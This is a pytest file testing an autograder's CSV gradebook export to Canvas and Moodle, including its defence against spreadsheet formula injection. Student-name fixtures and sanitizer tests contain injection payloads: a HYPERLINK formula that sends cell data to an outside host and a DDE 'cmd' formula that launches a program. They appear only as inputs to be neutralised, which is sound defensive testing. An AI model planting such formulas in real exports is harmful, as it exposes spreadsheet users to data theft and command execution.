"""What an LMS is given: each score with its student, empty where there is none, and no formula."""

import csv
import io
import random

import pytest

from autograde.common.errors import UsageError
from autograde.returning.exporting import (
    COLUMNS,
    MOODLE,
    export,
    harmless,
    number,
    written,
)
from autograde.term.term import Term
from helpers.clean import clean

NAMES = [
    ("ana", "Åsa", "O'Brien", "asa@x.org"),
    ("wei", "", "李", "li@x.org"),
    ("bo.lee", 'Bo "Bobo"', "Lee, Jr.", "Bo+Lee@x.org"),
    ("no-7", "Two\nLines", "Smith; Jones", "seven@x.org"),
    ("evil", "=1+1", '=HYPERLINK("http://x.org?"&A1)', "evil@x.org"),
]
LESSONS = {"01_policy_updates": 20.0, "02_divergence": 26.0, "07_case_study": 30.0}


def row(student, lesson, score="", waits=False, unscored=0):
    names = dict(zip(("id", "first_name", "last_name", "email"), student, strict=True))
    marks = {"late_penalty": 0.0 if score != "" else "", "needs_hand_grading": waits}
    most = {"lesson": lesson, "score": score, "max_score": LESSONS[lesson]}
    return {**names, **most, **marks, "unscored": unscored}


@pytest.fixture
def rows():
    """Lesson 01 nobody handed in, 02 all but one, and 07 has essays in all their states."""
    made = [row(student, "01_policy_updates") for student in NAMES]
    made += [row(s, "02_divergence", 10 + i / 3) for i, s in enumerate(NAMES[:4])]
    made += [row(NAMES[4], "02_divergence")]
    made += [row(NAMES[0], "07_case_study", 25.5), row(NAMES[1], "07_case_study", 12.0, True, 1)]
    made += [row(NAMES[2], "07_case_study", 9.0, True, 0), row(NAMES[3], "07_case_study", 0.0)]
    return [*made, row(NAMES[4], "07_case_study")]


@pytest.fixture
def term(tmp_path, rows, monkeypatch):
    """As much of a term as exporting needs: its rows."""
    monkeypatch.setattr("autograde.returning.exporting.grades", lambda term: iter(rows))
    roster = [one[0] for one in NAMES] + ["901", "902", "903"]
    lines = ["id,first_name,last_name,email", *(f"{student},,," for student in roster)]
    (tmp_path / "roster.csv").write_text("\n".join(lines))
    (tmp_path / ".autograde").mkdir()
    return Term(tmp_path)


@pytest.mark.parametrize("form", ["table", "students"])
def test_whose_points_are_of_an_earlier_file_is_said(term, tmp_path, form):
    """And not of whom nothing was ever graded."""
    assert export(term, tmp_path / "g.csv", form).outdated == []
    with term.store() as store:
        for student in ("ana", "evil", "wei"):
            store.keep_failed(f"{student}/02_divergence", "cut short")
    told = export(term, tmp_path / "g.csv", form).outdated
    assert all("of an earlier file" in line for line in told)
    assert [line.partition(":")[0] for line in told] == ["ana/02_divergence, wei/02_divergence"]


def read(path):
    with path.open(newline="", encoding="utf-8") as file:
        return list(csv.reader(file))


def test_the_table_reads_back_as_it_was(tmp_path, term, rows):
    lines = read(export(term, tmp_path / "x.csv").path)
    assert lines[0] == COLUMNS
    assert lines[1:] == [[str(harmless(one[name])) for name in COLUMNS] for one in rows]
    assert not list(tmp_path.glob("*.partial"))


def test_canvas_gets_its_columns_and_what_is_due(tmp_path, term):
    made = export(term, tmp_path / "x.csv", "canvas")
    header, most, *students = read(made.path)
    assert header[:5] == ["Student", "ID", "SIS User ID", "SIS Login ID", "Section"]
    assert header[5:] == ["02_divergence", "07_case_study"]  # importing 01 would make it due
    assert most[0].strip() == "Points Possible"
    assert most[5:] == ["26", "30"]
    assert [line[0] for line in students[:2]] == ["O'Brien, Åsa", "李"]
    assert [line[2:4] for line in students] == [[one[0], one[0]] for one in NAMES]
    scores = {line[2]: line[5:] for line in students}
    assert scores["ana"] == ["10", "25.5"]
    assert scores["no-7"] == ["11", "0"]  # nothing earned is not nothing handed in
    assert scores["evil"] == ["", ""]


def test_what_waits_for_a_hand_is_empty_and_said(tmp_path, term):
    made = export(term, tmp_path / "x.csv", "canvas")
    scores = {line[2]: line[6] for line in read(made.path)[2:]}
    assert (scores["wei"], scores["bo.lee"]) == ("", "9")
    assert len(made.notes) == 1
    assert made.notes[0].startswith("1 score waits for an essay")
    assert "left empty; --partial writes the rest (wei/07_case_study); " in made.notes[0]
    assert "--partial" in made.notes[0]
    partial = export(term, tmp_path / "x.csv", "canvas", partial=True)
    assert {line[2]: line[6] for line in read(partial.path)[2:]}["wei"] == "12"
    assert "counted without it" in partial.notes[0]


def test_moodle_gets_both_of_its_ids(tmp_path, term):
    header, *students = read(export(term, tmp_path / "x.csv", "moodle").path)
    assert header == [*MOODLE.values(), "02_divergence", "07_case_study"]
    assert {line[2]: line[3] for line in students} == {one[0]: one[3] for one in NAMES}
    assert {line[2]: line[4] for line in students}["bo.lee"] == "10.67"


def test_who_is_not_on_the_roster_goes_to_no_platform_and_it_is_said(tmp_path, term, rows):
    stranger = ("guest_5", "Gail", "Guest", "gail@x.org")
    rows += [row(stranger, "02_divergence", 30), row(stranger, "07_case_study")]
    assert "guest_5" in {line[0] for line in read(export(term, tmp_path / "x.csv").path)}
    for form in ("canvas", "moodle", "students"):
        made = export(term, tmp_path / "x.csv", form)
        assert "guest_5" not in made.path.read_text("utf-8")
        assert ["guest_5: not on the roster" in note for note in made.notes].count(True) == 1
    (tmp_path / "roster.csv").unlink()
    with pytest.raises(UsageError, match="nobody is on the roster"):
        export(term, tmp_path / "x.csv", "canvas")


CANVAS = """\ufeffStudent,ID,SIS User ID,SIS Login ID,Section,Essay (7),02 Divergence (12),Total
,,,,,,Manual Posting,
    Points Possible,,,,,10,25,(read only)
"Lee, Bo",3,900,BO.LEE,A,4,1,50
"O'Brien, Åsa",1,901,asa@x.org,A,5,,60
"Evil, E",5,902,evil,A,6,7.5,70
"李",8,903,someone,A,6,,70
"Student, Test",9,,x,A,,,
"""


def test_canvass_own_export_is_filled_in(tmp_path, term):
    """Found by login, by email and by name; nothing but our lessons can change."""
    (tmp_path / "canvas.csv").write_text(CANVAS, encoding="utf-8")
    made = export(term, tmp_path / "x.csv", "canvas", tmp_path / "canvas.csv")
    header, most, *students = read(made.path)
    titles = ["02 Divergence (12)", "07_case_study"]
    assert header == ["Student", "ID", "SIS User ID", "SIS Login ID", "Section", *titles]
    assert most[5:] == ["25", "30"]
    assert {line[1]: line[5:] for line in students} == {
        "3": ["10.67", "9"], "1": ["10", "25.5"], "5": ["7.5", ""], "8": ["10.33", ""],
    }  # fmt: skip
    worth, absent = made.unplaced
    assert absent.startswith("no-7: ")
    assert (
        "canvas.csv: 02_divergence is worth 25 there, and its points are written as of 26" in worth
    )
    assert worth.endswith(
        "or by c.Course.points in nbgrader_config.py, and export again, there and here"
    )
    assert any("has no assignment 07_case_study" in note for note in made.notes)
    (beside,) = (note for note in made.notes if "besides the students" in note)
    assert "has 1 besides the students written (Student, Test): left out, and Canvas" in beside


def test_points_of_one_worth_are_no_failure(tmp_path, term):
    """Whatever zeros Canvas writes behind them."""
    (tmp_path / "canvas.csv").write_text(CANVAS.replace("10,25,", "10,26.00,"), encoding="utf-8")
    made = export(term, tmp_path / "x.csv", "canvas", tmp_path / "canvas.csv")
    assert [line.partition(":")[0] for line in made.unplaced] == ["no-7"]


def test_many_who_are_not_in_canvass_export_are_one_line(tmp_path, term, rows):
    rows += [row((f"9{i:02}", "X", f"Y{i}", ""), "02_divergence", 1.0) for i in range(1, 31)]
    (tmp_path / "roster.csv").write_text(
        "id,first_name,last_name,email\n" + "".join(f"{one['id']},,,\n" for one in rows[-30:])
    )
    (tmp_path / "canvas.csv").write_text(CANVAS.replace("10,25,", "10,26,"), encoding="utf-8")
    made = export(term, tmp_path / "x.csv", "canvas", tmp_path / "canvas.csv")
    (line,) = made.unplaced
    assert line.startswith("27 (")
    assert all(f"9{i:02}" in line for i in range(4, 31))
    assert line.endswith("canvas.csv; their points are left out")


def test_an_id_of_one_kind_is_not_taken_for_another(tmp_path, term, rows):
    """Our ids are SIS User IDs; that one of them is another student's Canvas ID means nothing."""
    for one in rows:
        one["id"] = {"ana": "901", "wei": "902", "bo.lee": "903"}.get(one["id"], one["id"])
        one["email"] = one["first_name"] = one["last_name"] = ""
    text = CANVAS.replace('"Evil, E",5', '"Evil, E",901').replace("BO.LEE", "901")
    (tmp_path / "canvas.csv").write_text(text, encoding="utf-8")
    lines = read(export(term, tmp_path / "x.csv", "canvas", tmp_path / "canvas.csv").path)
    assert {line[2]: line[5] for line in lines[2:]} == {"901": "10", "902": "10.33", "903": "10.67"}


def test_a_line_for_each_student_has_totals_and_reads_in_excel(tmp_path, term, rows):
    """Excel takes UTF-8 for another encoding unless a BOM begins it."""
    rows += [row(("guest_5", "Gail", "Guest", "gail@x.org"), "02_divergence", 26)]
    made = export(term, tmp_path / "x.csv", "students")
    text = made.path.read_bytes()
    assert text.startswith(b"\xef\xbb\xbfid,")
    header, *lines = csv.reader(io.StringIO(text.decode("utf-8-sig"), newline=""))
    assert header == [
        "id", "last_name", "first_name", "email", "02_divergence", "07_case_study", "total",
        "max_total",
    ]  # fmt: skip
    found = {line[0]: line[4:] for line in lines}
    assert len(lines) == len(found) == len(NAMES)
    assert found["ana"] == ["10", "25.5", "35.5", "56"]
    assert found["no-7"] == ["11", "0", "11", "56"]
    assert found["evil"] == ["", "", "0", "56"]
    assert found["wei"] == ["10.33", "", "", "56"]  # an essay waits: there is no total yet
    assert lines[1][:3] == ["wei", "李", ""]
    assert [note for note in made.notes if note.startswith("guest_5: not on the roster")]
    partial = export(term, tmp_path / "x.csv", "students", partial=True).path.read_text("utf-8-sig")
    assert "wei,李,,li@x.org,10.33,12,22.33,56" in partial


@pytest.mark.parametrize("partial", [False, True])
def test_there_is_no_total_while_what_was_handed_in_has_no_points(tmp_path, term, partial):
    """Graded not yet, or never; of an earlier file that could be graded there are some."""
    for student in ("evil", "no-7", "ana"):
        term.submission(student, "02_divergence").parent.mkdir(parents=True)
    with term.store() as store:
        store.keep_failed("evil/02_divergence", "cut short")
    path = export(term, tmp_path / "x.csv", "students", partial=partial).path
    lines = csv.DictReader(io.StringIO(path.read_text("utf-8-sig"), newline=""))
    found = {line["id"]: line["total"] for line in lines}
    assert (found["evil"], found["bo.lee"]) == ("", "19.67")


def test_totals_are_the_sums_of_what_stands_in_the_line(tmp_path, term, rows):
    lines = export(term, tmp_path / "x.csv", "students", partial=True).path.read_text("utf-8-sig")
    for line in csv.DictReader(io.StringIO(lines, newline="")):
        scores = [line[lesson] for lesson in ("02_divergence", "07_case_study")]
        assert float(line["total"]) == pytest.approx(sum(float(score or 0) for score in scores))


@pytest.mark.parametrize("form", ["table", "students", "canvas", "moodle"])
def test_only_the_lessons_that_were_asked_for(tmp_path, term, form):
    made = export(term, tmp_path / "x.csv", form, lessons=["07_case_study"])
    text = made.path.read_text("utf-8-sig")
    assert "07_case_study" in text
    assert "02_divergence" not in text
    if form == "students":
        assert "ana,O'Brien,Åsa,asa@x.org,25.5,25.5,30" in text


def test_a_lesson_of_which_nothing_is_graded_is_told(tmp_path, term):
    chosen = ["01_policy_updates", "02_divergence"]
    made = export(term, tmp_path / "x.csv", "moodle", lessons=chosen)
    assert "01_policy_updates: nobody's is graded; left out" in made.notes
    assert read(made.path)[0] == [*MOODLE.values(), "02_divergence"]
    with pytest.raises(UsageError, match="nothing of 01_policy_updates is graded yet"):
        export(term, tmp_path / "x.csv", "moodle", lessons=chosen[:1])


@pytest.mark.parametrize("form", ["table", "students", "moodle"])
def test_ids_of_one_kind_alone(tmp_path, term, form):
    titles = {"id": {"id", "ID number"}, "email": {"email", "Email address"}}
    for kind, other in (("id", "email"), ("email", "id")):
        made = export(term, tmp_path / "x.csv", form, ids=kind)
        header, *lines = csv.reader(io.StringIO(made.path.read_text("utf-8-sig"), newline=""))
        assert titles[kind] & set(header)
        assert not titles[other] & set(header)
        assert {len(line) for line in lines} == {len(header)}
        assert ("asa@x.org" in made.path.read_text("utf-8")) == (kind == "email")


def test_canvas_finds_students_by_email_where_that_is_their_login(tmp_path, term):
    header, _, *lines = read(export(term, tmp_path / "x.csv", "canvas", ids="email").path)
    assert {line[header.index("SIS Login ID")] for line in lines} == {one[3] for one in NAMES}
    assert {line[header.index("SIS User ID")] for line in lines} == {""}


@pytest.mark.parametrize("form", ["moodle", "canvas"])
def test_whom_no_address_names_is_told_and_left_out(tmp_path, term, rows, form):
    """In Moodle's import (grade/import/csv/classes/load_data.php) a line without one would go to
    the student of the line above: `studentid` is kept from line to line."""
    for one in rows:
        if one["id"] in ("wei", "evil", "no-7"):
            one["email"] = {"wei": "", "evil": "ASA@x.org", "no-7": "seven@x.org"}[one["id"]]
    made = export(term, tmp_path / "x.csv", form, ids="email")
    text = made.path.read_text("utf-8")
    assert "Lee" in text
    assert "seven@x.org" in text
    assert "asa@x.org" not in text.lower()
    told = {line.partition(":")[0]: line for line in made.unplaced}
    assert set(told) == {"wei", "evil", "ana"}
    assert "has no email on the roster" in told["wei"]
    assert "shares asa@x.org with another" in told["ana"]


def test_who_is_excused_in_canvas_stays_excused(tmp_path, term):
    """EX, in any case (lib/gradebook_importer.rb, casecmp): a score in its place would count."""
    text = CANVAS.replace("BO.LEE,A,4,1", "BO.LEE,A,4,EX").replace(
        "asa@x.org,A,5,", "asa@x.org,A,5,ex"
    )
    (tmp_path / "canvas.csv").write_text(text.replace("A,6,7.5", "A,6, Ex"), encoding="utf-8")
    made = export(term, tmp_path / "x.csv", "canvas", tmp_path / "canvas.csv")
    scores = {line[1]: line[5] for line in read(made.path)[2:]}
    assert scores == {"3": "EX", "1": "ex", "5": " Ex", "8": "10.33"}
    assert "2 scores are of students excused (EX) in Canvas, who stay so" in made.notes


def test_canvass_own_ids_stay_where_its_gradebook_is_filled_in(tmp_path, term):
    (tmp_path / "canvas.csv").write_text(CANVAS, encoding="utf-8")
    with pytest.raises(UsageError, match="--ids email: with --fill, Canvas's own ids stay"):
        export(term, tmp_path / "x.csv", "canvas", tmp_path / "canvas.csv", ids="email")


@pytest.mark.parametrize(
    ("text", "says"),
    [
        (None, "cannot be read as CSV"),
        (b"\xff\xfe\x00", "cannot be read as CSV"),
        (b"", "not a gradebook of Canvas"),
        (b"id,first_name,last_name,email\n", "not a gradebook of Canvas"),
        (b"Student,ID,Section,02_divergence (1),02 divergence (2)\n", "rename all but one"),
    ],
)
def test_what_is_no_gradebook_of_canvas(tmp_path, term, text, says):
    if text is not None:
        (tmp_path / "canvas.csv").write_bytes(text)
    with pytest.raises(UsageError, match=says):
        export(term, tmp_path / "x.csv", "canvas", tmp_path / "canvas.csv")
    assert not list(tmp_path.glob("x.csv*"))


def test_nothing_graded_is_no_gradebook(tmp_path, term, rows):
    rows[:] = [row(student, "02_divergence") for student in NAMES]
    with pytest.raises(UsageError, match="nothing is graded yet"):
        export(term, tmp_path / "x.csv", "moodle")


@pytest.mark.parametrize(
    "text",
    ["=1+1", "=cmd|' /C calc'!A0", "@SUM(A1:A9)", "+1+cmd()", "-2+3*A1", " =A1", "＝A1", "＠A1",
     "\u3000=A1", "-ana@x.org", "@ana", "|calc", "\ufffd=A1"],
)  # fmt: skip
def test_no_name_is_a_formula(text):
    assert harmless(text) == f"'{text}"


@pytest.mark.parametrize(
    ("text", "cell"),
    [
        ("\t=A1", "␉=A1"),
        ("Ana\r\n=A1", "Ana␍␊=A1"),
        ("Ana;=A1;b; @x", "Ana;'=A1;b;' @x"),
        ("\u200b=A1", "'\ufffd=A1"),
    ],
)
def test_no_part_of_a_name_is_a_cell_of_its_own(text, cell):
    assert harmless(text) == cell
    assert harmless(cell) == cell


@pytest.mark.parametrize("text", ["-7", "10.67", "a+b@x.org", "O'Brien", "x=1", "", 3])
def test_ids_addresses_and_names_stay_as_they_are(text):
    assert harmless(text) == text


def test_any_text_comes_back_but_for_one_apostrophe():
    """A property: whatever the cells hold, they read back clean, and no part begins a formula."""
    draw = random.Random(0)
    letters = "=+-@'\",;\n\r\t aÅ李1("
    lines = [["".join(draw.choices(letters, k=draw.randrange(9))) for _ in range(4)]
             for _ in range(500)]  # fmt: skip
    text = written([["a", "b", "c", "d"], *lines])
    back = list(csv.reader(io.StringIO(text, newline="")))[1:]
    assert len(back) == len(lines)
    for line, got in zip(lines, back, strict=True):
        for text, cell in zip(line, got, strict=True):
            assert cell.replace("'", "") == clean(text).replace("'", "")
            assert not any(part.lstrip()[:1] in tuple("=+-@") for part in cell.split(";")[1:])
            assert harmless(cell) == cell


@pytest.mark.parametrize(
    ("score", "text"),
    [
        (0.0, "0"),
        (10.0, "10"),
        (100.0, "100"),
        (7.5, "7.5"),
        (1 / 3, "0.33"),
        (1234.567, "1234.57"),
    ],
)
def test_a_score_has_two_decimals_at_most(score, text):
    assert number(score) == text
